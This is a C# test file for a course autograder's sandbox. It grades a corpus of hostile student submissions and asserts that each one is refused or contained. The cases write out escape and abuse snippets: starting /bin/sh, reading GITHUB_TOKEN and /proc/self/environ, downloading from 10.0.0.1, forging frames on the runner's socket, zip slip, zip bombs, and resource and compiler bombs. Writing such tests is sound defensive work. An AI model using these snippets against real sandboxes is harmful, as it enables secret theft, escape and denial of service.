using System.IO.Compression;
using Grader.Core.Reports;

namespace Grader.Runner.Tests.Grading;

/// <summary>
/// The hostile corpus: submissions that try to escape, forge scores, hang or exhaust resources. Each is the HW1 model
/// solution with one hostile edit, graded through the whole pipeline (store, intake, compile, policy, sandbox,
/// checks, rubric). Each must end contained, with its expected outcome and message, and the grader carries on.
/// </summary>
[Category("Sandbox")]
[NonParallelizable]
public class HostileCorpusTests
{
    private GradingFixture _fixture = null!;

    /// <summary>Where a hostile edit goes in the model solution.</summary>
    public enum Inject
    {
        /// <summary>First statement of Initialize (every check calls it first).</summary>
        InitializeBody,

        /// <summary>First statement of Forward.</summary>
        ForwardBody,

        /// <summary>A new member of the class.</summary>
        ClassMember,

        /// <summary>Code at file level, before the class.</summary>
        FileTop,
    }

    /// <param name="AlsoAcceptable">A second outcome that is just as contained, where which one happens depends on the machine's load.</param>
    public sealed record HostileCase(string Name, Inject Where, string Code, GradingOutcome Outcome, string Message, decimal MaxTotal, string? Usings = null, GradingOutcome? AlsoAcceptable = null)
    {
        public override string ToString() => Name;
    }

    public static IEnumerable<HostileCase> Corpus()
    {
        // Refused before anything runs: the static policy names the API, file and line.
        yield return new("process-start", Inject.InitializeBody, "System.Diagnostics.Process.Start(\"/bin/sh\", \"-c id\");", GradingOutcome.PolicyRejected, "starting or inspecting processes is not allowed", 0);
        yield return new("network-connect", Inject.InitializeBody, "new System.Net.Sockets.TcpClient().Connect(\"10.0.0.1\", 80);", GradingOutcome.PolicyRejected, "network access is not allowed", 0);
        yield return new("http-exfiltration", Inject.InitializeBody, "new System.Net.Http.HttpClient().GetStringAsync(\"http://example.com\").Wait();", GradingOutcome.PolicyRejected, "network access is not allowed", 0);
        yield return new("reflection-into-harness", Inject.InitializeBody, "var host = System.Type.GetType(\"Grader.Sandbox.StudentHost, grader-sandbox\");", GradingOutcome.PolicyRejected, "looking up types by name is not allowed", 0);
        yield return new("reflection-fields", Inject.InitializeBody, "var f = typeof(MultilayerPerceptron).GetFields(System.Reflection.BindingFlags.NonPublic);", GradingOutcome.PolicyRejected, "reflection and generating code at run time are not allowed", 0);
        yield return new("environment-exit", Inject.InitializeBody, "System.Environment.Exit(0);", GradingOutcome.PolicyRejected, "ending the process is not allowed", 0);
        yield return new("environment-failfast", Inject.InitializeBody, "System.Environment.FailFast(\"bye\");", GradingOutcome.PolicyRejected, "ending the process is not allowed", 0);
        yield return new("environment-read", Inject.InitializeBody, "var secret = System.Environment.GetEnvironmentVariable(\"GITHUB_TOKEN\");", GradingOutcome.PolicyRejected, "reading the environment is not allowed", 0);
        yield return new("pinvoke-system", Inject.ClassMember, "[System.Runtime.InteropServices.DllImport(\"libc\")] private static extern int system(string command);", GradingOutcome.PolicyRejected, "native interop", 0);
        yield return new("marshal-write", Inject.InitializeBody, "System.Runtime.InteropServices.Marshal.WriteInt32(new System.IntPtr(4096), 1);", GradingOutcome.PolicyRejected, "native interop is not allowed", 0);
        yield return new("native-library-load", Inject.InitializeBody, "System.Runtime.InteropServices.NativeLibrary.Load(\"libc.so.6\");", GradingOutcome.PolicyRejected, "native interop is not allowed", 0);
        yield return new("assembly-load", Inject.InitializeBody, "System.Runtime.Loader.AssemblyLoadContext.Default.LoadFromAssemblyPath(\"/grader/grader-sandbox.dll\");", GradingOutcome.PolicyRejected, "loading assemblies is not allowed", 0);
        yield return new("appdomain-walk", Inject.InitializeBody, "var all = System.AppDomain.CurrentDomain.GetAssemblies();", GradingOutcome.PolicyRejected, "not available to submissions", 0);
        yield return new("module-initializer", Inject.ClassMember, "[System.Runtime.CompilerServices.ModuleInitializer] internal static void Early() { }", GradingOutcome.PolicyRejected, "module initializers", 0);
        yield return new("autograd-in-handwritten-backprop", Inject.ForwardBody, "inputs.requires_grad_(true);", GradingOutcome.PolicyRejected, "hand-written backward pass", 0);
        yield return new("unsafe-pointer-write", Inject.ClassMember, "private static unsafe void Poke() { int* p = (int*)4096; *p = 1; }", GradingOutcome.CompileFailed, "unsafe code is not allowed", 0);
        // Issue 16's bypasses of the policy, each refused with its API named (no points).
        yield return new("autograd-with-requires-grad", Inject.ForwardBody, "inputs = inputs.with_requires_grad();", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.with_requires_grad", 0);
        yield return new("autograd-factory-argument", Inject.ForwardBody, "var probe = torch.zeros(new long[] { 1 }, requires_grad: true);", GradingOutcome.PolicyRejected, "hand-written backward pass", 0);
        yield return new("delegate-by-name", Inject.InitializeBody, "var bound = System.Delegate.CreateDelegate(typeof(System.Action), this, \"GetHashCode\");", GradingOutcome.PolicyRejected, "System.Delegate.CreateDelegate", 0);
        yield return new("generic-type-by-name", Inject.InitializeBody, "var made = typeof(System.Collections.Generic.List<>).MakeGenericType(GetType());", GradingOutcome.PolicyRejected, "System.Type.MakeGenericType", 0);
        yield return new("expression-call-by-name", Inject.InitializeBody, "System.Linq.Expressions.Expression.Lambda<System.Action>(System.Linq.Expressions.Expression.Call(typeof(System.Console), \"Beep\", null)).Compile()();", GradingOutcome.PolicyRejected, "System.Linq.Expressions", 0);
        yield return new("memory-marshal", Inject.InitializeBody, "var raw = System.Runtime.InteropServices.MemoryMarshal.AsBytes(new int[1].AsSpan());", GradingOutcome.PolicyRejected, "System.Runtime.InteropServices.MemoryMarshal", 0);
        yield return new("safe-file-handle", Inject.InitializeBody, "using var socket = new System.IO.FileStream(new Microsoft.Win32.SafeHandles.SafeFileHandle(3, false), System.IO.FileAccess.Write);", GradingOutcome.PolicyRejected, "Microsoft.Win32.SafeHandles.SafeFileHandle", 0);
        yield return new("process-start-info", Inject.InitializeBody, "var start = new System.Diagnostics.ProcessStartInfo(\"/bin/sh\");", GradingOutcome.PolicyRejected, "System.Diagnostics.ProcessStartInfo", 0);
        yield return new("tensor-native-handle", Inject.ForwardBody, "var pointer = inputs.Handle;", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.Handle", 0);
        yield return new("unsafe-create-tensor", Inject.ForwardBody, "var forged = torch.Tensor.UnsafeCreateTensor(default);", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.UnsafeCreateTensor", 0);
        yield return new("tensor-from-file", Inject.InitializeBody, "var stolen = torch.from_file(\"/proc/self/environ\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.from_file", 0);
        yield return new("torch-hub", Inject.InitializeBody, "torch.hub.download_url_to_file(\"http://10.0.0.1/w\", \"/tmp/w\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.hub", 0);
        yield return new("tensor-load", Inject.InitializeBody, "var saved = torch.Tensor.load(\"/submission/weights.bin\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.load", 0);
        yield return new("module-load", Inject.InitializeBody, "torch.nn.Linear(2, 3).load(\"/submission/model.bin\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.nn.Module.load", 0);
        yield return new("line-directive-relabel", Inject.ClassMember, "\n#line 1 \"Grader.Reference/Checks/Hw1MlpChecks.cs\"\nprivate int relabelled;", GradingOutcome.PolicyRejected, "#line is not allowed", 0);
        yield return new("dynamic-binder", Inject.InitializeBody, "dynamic anything = this; anything.Forward(null);", GradingOutcome.CompileFailed, "did not compile", 0);

        // Contained by the sandbox: each ends with an explanation, the items it did not answer score zero.
        yield return new("infinite-loop", Inject.ForwardBody, "while (true) { }", GradingOutcome.PartiallyGraded, "time limit", 50);
        yield return new("static-constructor-hang", Inject.ClassMember, "static MultilayerPerceptron() { while (true) { } }", GradingOutcome.PartiallyGraded, "time limit", 0);
        yield return new("sleep-forever", Inject.InitializeBody, "System.Threading.Thread.Sleep(System.Threading.Timeout.Infinite);", GradingOutcome.PartiallyGraded, "time limit", 0);
        yield return new("managed-memory-bomb", Inject.InitializeBody, "var hoard = new System.Collections.Generic.List<byte[]>(); while (true) hoard.Add(new byte[64 << 20]);", GradingOutcome.Graded, "OutOfMemoryException", 0);
        yield return new("native-memory-bomb", Inject.InitializeBody, "var hoard = new System.Collections.Generic.List<Tensor>(); while (true) hoard.Add(torch.ones(64, 1024, 1024));", GradingOutcome.PartiallyGraded, "memory", 0);
        yield return new("disk-filler", Inject.InitializeBody, "var chunk = new byte[1 << 20]; using var file = System.IO.File.Create(\"/tmp/fill\"); while (true) file.Write(chunk);", GradingOutcome.Graded, "IOException", 0);
        yield return new("output-flood", Inject.InitializeBody, "while (true) System.Console.Out.Write(new string('x', 4096));", GradingOutcome.PartiallyGraded, "MB of output", 0);
        // Issue 16: only /tmp and /dev/shm are writable, each with its own cap (in the rlimits mode too: SandboxTests).
        yield return new("shm-filler", Inject.InitializeBody, "var chunk = new byte[1 << 20]; for (int i = 0; ; i++) System.IO.File.WriteAllBytes(\"/dev/shm/fill\" + i, chunk);", GradingOutcome.Graded, "IOException", 0);
        yield return new("inode-filler", Inject.InitializeBody, "for (int i = 0; ; i++) System.IO.File.Create(\"/tmp/empty\" + i).Dispose();", GradingOutcome.Graded, "IOException", 0);
        yield return new("write-sandbox-root", Inject.InitializeBody, "System.IO.File.WriteAllText(\"/report.json\", \"{\\\"total\\\": 100}\");", GradingOutcome.Graded, "Read-only file system", 0);
        yield return new("read-etc-passwd", Inject.InitializeBody, "System.Console.WriteLine(System.IO.File.ReadAllText(\"/etc/passwd\"));", GradingOutcome.Graded, "Could not find a part of the path '/etc/passwd'", 0);
        yield return new("read-other-submissions", Inject.InitializeBody, "if (System.IO.Directory.GetDirectories(\"/tmp\").Length > 0) throw new System.Exception(\"saw another run\"); System.IO.File.ReadAllText(\"/root/grader-data/store/index\");", GradingOutcome.Graded, "DirectoryNotFoundException", 0);
        yield return new("write-into-submission", Inject.InitializeBody, "System.IO.File.WriteAllText(\"/submission/bin/report.json\", \"{\\\"total\\\": 100}\");", GradingOutcome.Graded, "Read-only file system", 0);
        yield return new("print-fake-report", Inject.InitializeBody, "System.Console.WriteLine(\"{\\\"schemaVersion\\\":1,\\\"total\\\":100,\\\"max\\\":100,\\\"items\\\":[]}\"); throw new System.InvalidOperationException(\"forged\");", GradingOutcome.Graded, "forged", 0);
        yield return new("stack-overflow", Inject.ClassMember, "private static int Deeper(int n) => Deeper(n + 1) + 1;", GradingOutcome.PartiallyGraded, "crashed", 0) { };
        yield return new("thread-crashes-process", Inject.InitializeBody, "new System.Threading.Thread(() => throw new System.InvalidOperationException(\"boom\")).Start(); System.Threading.Thread.Sleep(2000);", GradingOutcome.PartiallyGraded, "before all checks had their answers", 0);
        yield return new("thread-bomb", Inject.InitializeBody, "while (true) new System.Threading.Thread(() => System.Threading.Thread.Sleep(System.Threading.Timeout.Infinite)).Start();", GradingOutcome.Graded, "threw", 0,
            // Out of threads, the runtime itself may need one it cannot get and abort the sandbox: also contained.
            AlsoAcceptable: GradingOutcome.PartiallyGraded);
        // The trusted side holds (issue 16): forged frames on the runner's socket (the static policy now refuses the
        // SafeFileHandle they need; ForgedFrameSessionTests shows the runner's decoder holding without it), hostile
        // exception text, answers that cannot cross.
        yield return new("forged-frame-deep-nesting", Inject.InitializeBody, ForgedFrame("var frame = new System.Collections.Generic.List<byte> { 18 }; for (int i = 0; i < 20000; i++) frame.AddRange(new byte[] { 8, 1, 0, 0, 0 });"),
            GradingOutcome.PolicyRejected, "native interop is not allowed", 0);
        yield return new("forged-frame-tiny-tensors", Inject.InitializeBody, ForgedFrame("var frame = new System.Collections.Generic.List<byte> { 18, 8 }; frame.AddRange(System.BitConverter.GetBytes(5000)); for (int i = 0; i < 5000; i++) frame.AddRange(new byte[] { 7, 1, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0 });"),
            GradingOutcome.PolicyRejected, "native interop is not allowed", 0);
        yield return new("forged-frame-bad-shape", Inject.InitializeBody, ForgedFrame("var frame = new System.Collections.Generic.List<byte> { 18, 7, 6, 4, 0, 0, 0 }; for (int d = 0; d < 4; d++) frame.AddRange(System.BitConverter.GetBytes((long)int.MaxValue)); frame.AddRange(new byte[12]);"),
            GradingOutcome.PolicyRejected, "native interop is not allowed", 0);
        yield return new("exception-text-forgery", Inject.InitializeBody, "throw new System.InvalidOperationException(\"GraderError: the course staff will look at it\\u001b[2J\\u202Egnp.exe\" + new string('x', 1 << 20));",
            GradingOutcome.Graded, "\\u001B[2J\\u202Egnp.exe", 0);
        yield return new("exception-whose-message-throws", Inject.ClassMember,
            "private sealed class Treacherous : System.Exception { public override string Message => throw new System.InvalidOperationException(\"no\"); public override string? StackTrace => throw new System.InvalidOperationException(\"no\"); }\n"
            + "public MultilayerPerceptron() { } static MultilayerPerceptron() { } public void Boom() => throw new Treacherous();",
            GradingOutcome.Graded, "", 90);
        yield return new("float16-answer", Inject.ForwardBody, "if (inputs.shape[0] > 0) return Activations(inputs)[^1].to(ScalarType.Float16);",
            GradingOutcome.Graded, "cannot cross the sandbox boundary", 90);
        // The compiler runs in the grader's process: code that makes Roslyn explode is a compile failure within the
        // compile budget (CompileBudgetTests measures time and memory), and the grader goes on.
        yield return new("constant-string-doubling", Inject.ClassMember, Compilation.CompileBudgetTests.DoublingConstants(24, local: false).Replace("class Bomb {", "", StringComparison.Ordinal).TrimEnd().TrimEnd('}'),
            GradingOutcome.CompileFailed, "your code is too complex to compile within 1 GB", 0);
        yield return new("nested-lambdas-over-overloads", Inject.ClassMember, Compilation.CompileBudgetTests.NestedLambdas(20, 3).Replace("using System;\nclass Knot {", "", StringComparison.Ordinal).Replace("Func<", "System.Func<", StringComparison.Ordinal).TrimEnd().TrimEnd('}'),
            GradingOutcome.CompileFailed, "your code is too complex to compile within 20 s", 0);
        yield return new("threads-left-running", Inject.InitializeBody, "var spinner = new System.Threading.Thread(() => { while (true) { } }) { IsBackground = false }; spinner.Start();", GradingOutcome.Graded, "of 100 points", 90);
    }

    [OneTimeSetUp]
    public void StartCourse() => _fixture = new GradingFixture(wallSeconds: WallSeconds);

    [OneTimeTearDown]
    public void RemoveCourse() => _fixture.Dispose();

    [TestCaseSource(nameof(Corpus))]
    public void HostileSubmissionEndsContainedAndExplained(HostileCase hostile)
    {
        if (hostile.Name == "inode-filler" && !Grader.Runner.Sandbox.SandboxLauncher.SupportsPrivateMounts.Value)
        {
            Assert.Ignore("this host cannot mount the sandbox's /tmp with a file cap (see infra/README.md): the filler would run into the wall limit instead");
        }

        string code = hostile.Name == "stack-overflow"
            ? Edit(GradingFixture.Hw1Solution, Inject.ClassMember, hostile.Code).Replace("int[] sizes = [", "Deeper(0); int[] sizes = [", StringComparison.Ordinal)
            : Edit(GradingFixture.Hw1Solution, hostile.Where, hostile.Code);
        var report = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("abc123_hw1", ("MultilayerPerceptron.cs", code)));

        string everything = string.Join("\n", [report.Summary, .. report.Items.Select(i => i.Reason), report.SandboxStop ?? ""]);
        Assert.Multiple(() =>
        {
            Assert.That(report.Outcome, Is.AnyOf(hostile.Outcome, hostile.AlsoAcceptable ?? hostile.Outcome), everything);
            Assert.That(everything, Does.Contain(hostile.Message), "the explanation the student sees");
            Assert.That(report.Total, Is.LessThanOrEqualTo(hostile.MaxTotal), everything);
            Assert.That(report.Max, Is.EqualTo(100m));
        });
    }

    /// <summary>One case of each attack class of issue 16, graded in one batch by the grader's command line.</summary>
    private static readonly string[] AttackClasses =
    [
        "forged-frame-deep-nesting", "forged-frame-tiny-tensors", "constant-string-doubling", "nested-lambdas-over-overloads",
        "float16-answer", "autograd-with-requires-grad", "delegate-by-name", "line-directive-relabel", "exception-text-forgery",
        "shm-filler", "inode-filler", "write-sandbox-root",
    ];

    [Test]
    public void EveryAttackClassInOneBatchEndsWithAReportWithinItsLimitsAndTheRestOfTheBatchGradesNormally()
    {
        // The "done when" of issue 16 through `grader grade --batch`: exit 0, a report per submission, each within its
        // compile and wall limits, the runner's peak resident memory under 1 GB, the honest submissions before and
        // after the attacks graded in full.
        string batch = Path.Combine(_fixture.Root, "attack-batch");
        var cases = Corpus().Where(c => AttackClasses.Contains(c.Name)).ToList();
        Assert.That(cases.Select(c => c.Name), Is.EquivalentTo(AttackClasses));
        var expected = new Dictionary<string, HostileCase?> { ["a00_hw1"] = null, ["z99_hw1"] = null };
        foreach (var (hostile, index) in cases.Select((c, i) => (c, i)))
        {
            expected[$"s{index + 1:00}_hw1"] = hostile;
        }

        foreach (var (name, hostile) in expected)
        {
            Directory.CreateDirectory(Path.Combine(batch, name));
            File.WriteAllText(Path.Combine(batch, name, "MultilayerPerceptron.cs"), hostile is null ? GradingFixture.Hw1Solution : Edit(GradingFixture.Hw1Solution, hostile.Where, hostile.Code));
        }

        File.Move(WriteZip("s90_hw1.zip", ("README\u202Etxt.cs", "class Hidden { }"), ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution)), Path.Combine(batch, "s90_hw1.zip"));
        string reports = Path.Combine(_fixture.Root, "attack-reports");
        var start = new System.Diagnostics.ProcessStartInfo("dotnet") { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var argument in new[] { Path.Combine(AppContext.BaseDirectory, "grader.dll"), "grade", "hw1-mlp", "--batch", batch, "--course", _fixture.Root, "--out", reports })
        {
            start.ArgumentList.Add(argument);
        }

        using var runner = System.Diagnostics.Process.Start(start)!;
        var output = runner.StandardOutput.ReadToEndAsync();
        var errors = runner.StandardError.ReadToEndAsync();
        long peakBytes = 0;
        while (!runner.WaitForExit(100))
        {
            // VmHWM: the process's peak resident set so far; the last reading before it exits is its peak (to 100 ms).
            try
            {
                var line = File.ReadLines($"/proc/{runner.Id}/status").FirstOrDefault(l => l.StartsWith("VmHWM:", StringComparison.Ordinal));
                peakBytes = line is null ? peakBytes : Math.Max(peakBytes, long.Parse(line.Split(' ', StringSplitOptions.RemoveEmptyEntries)[1], System.Globalization.CultureInfo.InvariantCulture) * 1024);
            }
            catch (IOException)
            {
            }
        }

        string printed = output.Result + errors.Result;
        TestContext.Out.WriteLine($"runner peak resident memory: {peakBytes / (1024 * 1024)} MB");
        Assert.That(runner.ExitCode, Is.EqualTo(0), printed);
        Assert.That(peakBytes, Is.InRange(1L, 1024L * 1024 * 1024), "the runner's peak resident memory");
        var graded = Directory.GetFiles(reports, "*.json").Select(file => GradingReport.FromJson(File.ReadAllText(file)))
            .ToDictionary(report => Path.GetFileNameWithoutExtension(report.Submission.OriginalFileName), report => report);
        Assert.That(graded.Keys, Is.EquivalentTo(expected.Keys.Append("s90_hw1")), printed);
        Assert.Multiple(() =>
        {
            foreach (var (name, report) in graded)
            {
                string everything = $"{name}: {report.Summary} {string.Join(" ", report.Items.Select(i => i.Reason))} {report.SandboxStop}";
                Assert.That(report.Timings.CompileMs, Is.LessThan((CompileBudgetSeconds + 10) * 1000.0), everything);
                Assert.That(report.Timings.TotalMs, Is.LessThan((CompileBudgetSeconds + WallSeconds + 30) * 1000.0), everything);
                if (name == "s90_hw1")
                {
                    Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused), everything);
                }
                else if (expected[name] is { } hostile)
                {
                    Assert.That(report.Outcome, Is.AnyOf(hostile.Outcome, hostile.AlsoAcceptable ?? hostile.Outcome), everything);
                    Assert.That(report.Total, Is.LessThanOrEqualTo(hostile.MaxTotal), everything);
                }
                else
                {
                    Assert.That((report.Outcome, report.Total), Is.EqualTo((GradingOutcome.Graded, 90m)), everything);
                }
            }
        });
    }

    private const int WallSeconds = 15;
    private const int CompileBudgetSeconds = 20;

    [Test]
    public void ACompilerBombEndsWithAReportAndTheNextSubmissionGradesNormally()
    {
        string bomb = Compilation.CompileBudgetTests.DoublingConstants(24, local: true).Replace("class Bomb { int M() {", "", StringComparison.Ordinal).Replace("return a23.Length; } }", "", StringComparison.Ordinal);
        var hostile = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("evil_hw1", ("MultilayerPerceptron.cs", Edit(GradingFixture.Hw1Solution, Inject.InitializeBody, bomb))));
        var honest = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("good_hw1", ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution)));
        Assert.That(hostile.Outcome, Is.EqualTo(GradingOutcome.CompileFailed), hostile.Summary);
        Assert.That(hostile.Summary, Does.Contain("your code is too complex to compile within 1 GB"));
        Assert.That(hostile.CompilerMessages.Single().Line, Is.GreaterThan(1), "the message points at the constant");
        Assert.That(honest.Outcome, Is.EqualTo(GradingOutcome.Graded));
        Assert.That(honest.Total, Is.EqualTo(90m));
        Assert.That(_fixture.Course.Assignment("hw1-mlp").Resources, Has.Property("CompileSeconds").EqualTo(20).And.Property("CompileMemoryMb").EqualTo(1024));
    }

    [Test]
    public void AZipSlipArchiveIsRefusedAtIntake()
    {
        string zip = WriteZip("abc123_hw1.zip", ("../../escaped.cs", "class Escaped { }"), ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution));
        var report = _fixture.Grader.Grade("hw1-mlp", zip);
        Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused));
        Assert.That(report.Summary, Does.Contain("escapes the submission folder"));
        Assert.That(File.Exists(Path.Combine(_fixture.Root, "escaped.cs")), Is.False);
    }

    [Test]
    public void AZipBombIsRefusedAtIntakeWithoutInflatingIt()
    {
        string zip = Path.Combine(_fixture.Root, "bomb_hw1.zip");
        using (var archive = ZipFile.Open(zip, ZipArchiveMode.Create))
        {
            using var entry = archive.CreateEntry("zeros.bin", CompressionLevel.SmallestSize).Open();
            var megabyte = new byte[1 << 20];
            for (int i = 0; i < 300; i++)
            {
                entry.Write(megabyte);
            }
        }

        var report = _fixture.Grader.Grade("hw1-mlp", zip);
        Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused));
        Assert.That(report.Summary, Does.Contain("zeros.bin"));
    }

    [Test]
    public void AMalformedNotebookIsRefusedWithItsFieldNamed()
    {
        string folder = _fixture.Submission("abc123_hw1", ("hw1.ipynb", "{\"nbformat\": 4, \"cells\": {\"not\": \"a list\"}}"));
        var report = _fixture.Grader.Grade("hw1-mlp", folder);
        Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused));
        Assert.That(report.Summary, Does.Contain("cells"));
    }

    [Test]
    public void APythonNotebookIsRefusedWithAnExplanation()
    {
        string notebook = """
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3", "language": "python", "display_name": "Python 3"}},
             "cells": [{"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [], "source": ["import torch\n"]}]}
            """;
        var report = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("abc123_hw1", ("hw1.ipynb", notebook)));
        Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused));
        Assert.That(report.Summary, Does.Contain("Python"));
    }

    [Test]
    public void AfterAHostileSubmissionTheNextOneInTheBatchGradesNormally()
    {
        var hostile = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("evil_hw1", ("MultilayerPerceptron.cs", Edit(GradingFixture.Hw1Solution, Inject.InitializeBody, "while (true) System.Console.Out.Write(new string('x', 4096));"))));
        var honest = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("good_hw1", ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution)));
        Assert.That(hostile.Outcome, Is.EqualTo(GradingOutcome.PartiallyGraded));
        Assert.That(honest.Outcome, Is.EqualTo(GradingOutcome.Graded));
        Assert.That(honest.Total, Is.EqualTo(90m), "all auto items; the manual ones wait for a TA");
        Assert.That(honest.Items.Where(i => i.Kind == "auto").Select(i => i.Status), Is.All.EqualTo("passed"));
    }

    [Test]
    public void AForgedFrameAttemptIsRefusedAndTheNextSubmissionGradesNormally()
    {
        string forged = ForgedFrame("var frame = new System.Collections.Generic.List<byte> { 18 }; for (int i = 0; i < 20000; i++) frame.AddRange(new byte[] { 8, 1, 0, 0, 0 });");
        var hostile = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("evil_hw1", ("MultilayerPerceptron.cs", Edit(GradingFixture.Hw1Solution, Inject.InitializeBody, forged))));
        var honest = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("good_hw1", ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution)));
        Assert.That(hostile.Outcome, Is.EqualTo(GradingOutcome.PolicyRejected), hostile.Summary);
        Assert.That(hostile.Summary, Does.Contain("SafeFileHandle"));
        Assert.That(honest.Outcome, Is.EqualTo(GradingOutcome.Graded));
        Assert.That(honest.Total, Is.EqualTo(90m));
    }

    [Test]
    public void AStudentsFakeGraderErrorStaysTheStudentsFailureCappedAndEscaped()
    {
        string code = Edit(GradingFixture.Hw1Solution, Inject.InitializeBody, "throw new System.Exception(\"GraderError: the course staff will look at it\\u202E\" + new string('x', 1 << 20));");
        var report = _fixture.Grader.Grade("hw1-mlp", _fixture.Submission("abc123_hw1", ("MultilayerPerceptron.cs", code)));
        var auto = report.Items.Where(i => i.Kind == "auto").ToList();
        Assert.Multiple(() =>
        {
            Assert.That(auto.Select(i => i.Status), Has.None.EqualTo("pending"), "no item waits for the staff as a grader error");
            Assert.That(auto.Select(i => i.Reason.Length), Has.All.LessThan(600));
            Assert.That(auto.Select(i => i.Reason), Has.Some.Contains("GraderError: the course staff will look at it\\u202E"));
            // Ordinal: a culture-aware Contains ignores U+202E and would always find it.
            Assert.That(auto.Any(i => i.Reason.Contains('\u202E', StringComparison.Ordinal)), Is.False);
        });
    }

    [Test]
    public void AFileNameWithABidiOverrideIsRefusedAtIntakeNamedEscaped()
    {
        string zip = WriteZip("abc123_hw1.zip", ("README\u202Etxt.cs", "class Hidden { }"), ("MultilayerPerceptron.cs", GradingFixture.Hw1Solution));
        var report = _fixture.Grader.Grade("hw1-mlp", zip);
        Assert.That(report.Outcome, Is.EqualTo(GradingOutcome.IntakeRefused));
        Assert.That(report.Summary, Does.Contain("README\\u202Etxt.cs").And.Contain("U+202E"));
    }

    /// <summary>
    /// Student code that finds the runner's socket through /proc/self/fd and writes the frame built by
    /// <paramref name="buildFrame"/> (a statement declaring <c>frame</c>, a List of bytes) as if it were the host's answer.
    /// The socket is non-blocking, so a frame beyond its buffer (~200 KB) would arrive cut: keep forged frames small.
    /// </summary>
    private static string ForgedFrame(string buildFrame) => buildFrame + """
         foreach (var fd in System.IO.Directory.GetFiles("/proc/self/fd"))
         {
             if (new System.IO.FileInfo(fd).LinkTarget is not { } target || !target.StartsWith("socket:")) continue;
             try
             {
                 var handle = new Microsoft.Win32.SafeHandles.SafeFileHandle((System.IntPtr)int.Parse(System.IO.Path.GetFileName(fd)), false);
                 using var socket = new System.IO.FileStream(handle, System.IO.FileAccess.Write, 1);
                 socket.Write(System.BitConverter.GetBytes(frame.Count));
                 socket.Write(frame.ToArray());
                 socket.Flush();
             }
             catch (System.Exception) { }
         }
         System.Threading.Thread.Sleep(5000);
        """;

    private string WriteZip(string name, params (string Path, string Text)[] entries)
    {
        string zip = Path.Combine(_fixture.Root, Guid.NewGuid().ToString("N")[..8], name);
        Directory.CreateDirectory(Path.GetDirectoryName(zip)!);
        using var archive = ZipFile.Open(zip, ZipArchiveMode.Create);
        foreach (var (path, text) in entries)
        {
            using var writer = new StreamWriter(archive.CreateEntry(path).Open());
            writer.Write(text);
        }

        return zip;
    }

    private static string Edit(string solution, Inject where, string code)
    {
        string anchor = where switch
        {
            Inject.InitializeBody => "int[] sizes = [",
            Inject.ForwardBody => "public Tensor Forward(Tensor inputs) => Activations(inputs)[^1];",
            Inject.ClassMember => "public void Initialize(",
            _ => "public sealed class MultilayerPerceptron",
        };
        Assert.That(solution, Does.Contain(anchor), "the model solution changed; update the corpus anchors");
        string replacement = where switch
        {
            Inject.InitializeBody => code + "\n        " + anchor,
            Inject.ForwardBody => "public Tensor Forward(Tensor inputs) { " + code + " return Activations(inputs)[^1]; }",
            _ => code + "\n    " + anchor,
        };
        return solution.Replace(anchor, replacement, StringComparison.Ordinal);
    }
}
